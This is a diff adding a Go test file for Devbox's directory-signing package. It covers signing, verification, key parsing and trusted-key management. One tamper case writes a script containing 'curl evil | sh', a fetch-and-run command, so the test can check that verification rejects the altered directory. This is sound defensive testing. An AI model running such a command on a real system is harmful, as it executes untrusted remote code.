@@ -0,0 +1,112 @@
+// Copyright 2023 Jetpack Technologies Inc and contributors. All rights reserved.
+// Use of this source code is governed by the license in the LICENSE file.
+
+package sign
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/stretchr/testify/require"
+
+	"go.jetpack.io/devbox/internal/envir"
+)
+
+func TestSignAndVerifyDir(t *testing.T) {
+	key, err := GenerateKey()
+	require.NoError(t, err)
+	other, err := GenerateKey()
+	require.NoError(t, err)
+	trusted := []*PublicKey{key.Public()}
+
+	dir := t.TempDir()
+	writeFile(t, filepath.Join(dir, "devbox.json"), `{"packages": ["go@1.21"]}`)
+	writeFile(t, filepath.Join(dir, "scripts", "setup.sh"), "echo hi")
+
+	_, err = VerifyDir(dir, trusted)
+	require.ErrorIs(t, err, ErrUnsigned)
+
+	require.NoError(t, SignDir(dir, key))
+	verifiedBy, err := VerifyDir(dir, trusted)
+	require.NoError(t, err)
+	require.Equal(t, key.ID, verifiedBy.ID)
+
+	_, err = VerifyDir(dir, []*PublicKey{other.Public()})
+	require.ErrorIs(t, err, ErrInvalid)
+
+	// A key with a trusted ID but different key material doesn't verify.
+	impostor := other.Public()
+	impostor.ID = key.ID
+	_, err = VerifyDir(dir, []*PublicKey{impostor})
+	require.ErrorIs(t, err, ErrInvalid)
+
+	for _, tamper := range []func(){
+		func() { writeFile(t, filepath.Join(dir, "devbox.json"), `{"packages": ["evil"]}`) },
+		func() { writeFile(t, filepath.Join(dir, "extra.sh"), "curl evil | sh") },
+		func() { require.NoError(t, os.Remove(filepath.Join(dir, "scripts", "setup.sh"))) },
+		func() { require.NoError(t, os.Chmod(filepath.Join(dir, "devbox.json"), 0o755)) },
+	} {
+		require.NoError(t, SignDir(dir, key))
+		tamper()
+		_, err = VerifyDir(dir, trusted)
+		require.ErrorIs(t, err, ErrInvalid)
+	}
+
+	_, err = VerifyDir(filepath.Join(dir, "devbox.json"), trusted)
+	require.ErrorIs(t, err, ErrUnsigned)
+}
+
+func TestParsePublicKey(t *testing.T) {
+	key, err := GenerateKey()
+	require.NoError(t, err)
+	pub := key.Public()
+
+	for _, text := range []string{pub.String(), pub.File()} {
+		parsed, err := ParsePublicKey(text)
+		require.NoError(t, err)
+		require.Equal(t, pub, parsed)
+	}
+
+	_, err = ParsePublicKey("not a key")
+	require.Error(t, err)
+	_, err = ParsePublicKey(encodeLine(key.ID, key.Key))
+	require.Error(t, err, "secret keys aren't public keys")
+}
+
+func TestKeyring(t *testing.T) {
+	t.Setenv(envir.XDGConfigHome, t.TempDir())
+
+	key, err := SigningKey()
+	require.NoError(t, err)
+	require.Nil(t, key)
+
+	pub, err := GenerateSigningKey(false)
+	require.NoError(t, err)
+	key, err = SigningKey()
+	require.NoError(t, err)
+	require.Equal(t, pub, key.Public())
+	_, err = GenerateSigningKey(false)
+	require.Error(t, err)
+
+	require.NoError(t, Trust(pub))
+	require.NoError(t, Trust(pub))
+	trusted, err := TrustedKeys()
+	require.NoError(t, err)
+	require.Equal(t, []*PublicKey{pub}, trusted)
+
+	removed, err := Untrust(pub.ID.String())
+	require.NoError(t, err)
+	require.True(t, removed)
+	removed, err = Untrust(pub.ID.String())
+	require.NoError(t, err)
+	require.False(t, removed)
+	trusted, err = TrustedKeys()
+	require.NoError(t, err)
+	require.Empty(t, trusted)
+}
+
+func writeFile(t *testing.T, path, content string) {
+	require.NoError(t, os.MkdirAll(filepath.Dir(path), 0o755))
+	require.NoError(t, os.WriteFile(path, []byte(content), 0o644))
+}